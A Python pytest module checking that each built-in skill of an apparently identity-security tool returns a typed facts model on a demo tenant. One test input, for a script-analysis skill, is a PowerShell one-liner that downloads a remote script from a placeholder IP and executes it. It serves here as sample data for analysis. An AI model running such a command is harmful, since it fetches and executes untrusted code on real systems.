"""Every built-in skill declares a facts model, and its results hold an instance of it.

The autouse `_skill_facts_checked` fixture (tests/conftest.py) checks every skill run in the
suite; this module makes sure each built-in runs at least once, on the demo tenant.
"""

from __future__ import annotations

from typing import Any

import pytest

from idpilot.skills import ResultStatus, SkillFacts, UnresolvedFacts, default_registry
from tests.conftest import DemoTenant
from tests.skill_facts import NOT_YET_TYPED, facts_problems, is_builtin


def _params(key: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """One call per built-in skill, on objects of the demo tenant."""
    personas = key["personas"]
    alice = personas["alice_johnson"]["id"]
    return {
        "actor_activity": {"user": personas["it_admin"]["id"]},
        "app_details": {"application": personas["risky_app"]["id"]},
        "audit_history": {},
        "ca_coverage": {},
        "policy_draft": {
            "drafted_policy": {
                "text": "Require phishing-resistant MFA for admins, except break-glass"
            }
        },
        "ca_whatif": {"user": alice},
        "detect_threats": {},
        "docs_answer": {"question": "how do I set up number matching?"},
        "explain_error": {"code": 50126},
        "group_details": {"group": "Staff - EMEA"},
        "group_rule": {"group": "Staff - EMEA"},
        "kql_tables": {},
        "kql_write": {
            "question": {"kind": "signIns", "table": "SigninLogs", "group_by": ["user"], "top": 3}
        },
        "lifecycle_workflows": {},
        "list_groups": {},
        "list_users": {},
        "membership_path": {"user": alice, "group": "Finance - All"},
        "policy_changes": {},
        "posture_assessment": {},
        "report": {"report_kind": "incident", "audience": "engineer"},
        "risky_user_summary": {"user": personas["eve"]["id"]},
        "risky_users": {},
        "role_holders": {},
        "script_analysis": {"script": "IEX (iwr http://203.0.113.9/a.ps1)", "name": "a.ps1"},
        "signin_summary": {},
        "signin_troubleshoot": {"user": personas["lockout_user"]["id"]},
        "tenant_changes": {},
        "user_details": {"user": alice},
        "user_roles": {"user": personas["it_admin"]["id"]},
        "who_changed": {},
        "workload_identity_risk": {},
    }


BUILTINS = [skill for skill in default_registry().all() if is_builtin(skill)]


def test_every_builtin_skill_declares_a_facts_model_or_is_a_named_exception() -> None:
    names = {skill.name for skill in BUILTINS}
    assert names >= NOT_YET_TYPED, f"not built-in skills: {sorted(NOT_YET_TYPED - names)}"
    for skill in BUILTINS:
        if skill.name in NOT_YET_TYPED:
            assert skill.facts_model is None, f"{skill.name} is typed: drop it from NOT_YET_TYPED"
        else:
            assert skill.facts_model is not None, f"{skill.name} declares no facts model"
            assert issubclass(skill.facts_model, SkillFacts)
            assert skill.facts_model.model_json_schema()["properties"]


@pytest.mark.parametrize("skill", BUILTINS, ids=lambda skill: skill.name)
def test_each_builtin_skill_returns_its_facts_model(skill: Any, demo_tenant: DemoTenant) -> None:
    params = _params(demo_tenant.answer_key)
    assert skill.name in params, f"add a call of {skill.name} to this test"
    result = skill.run(demo_tenant.store, params[skill.name])
    assert result.status in (ResultStatus.ok, ResultStatus.empty), result.status
    assert facts_problems(skill, result) == []
    if skill.name not in NOT_YET_TYPED:
        assert isinstance(result.facts, skill.facts_model)


def test_an_unknown_name_gives_the_unresolved_facts_model(demo_tenant: DemoTenant) -> None:
    skill = default_registry().get("user_details")
    result = skill.run(demo_tenant.store, {"user": "nobody-at-all-zq"})
    assert result.status == ResultStatus.not_found
    assert result.facts == UnresolvedFacts(kind="user")
    assert result.model_dump(mode="json")["facts"] == {"kind": "user"}
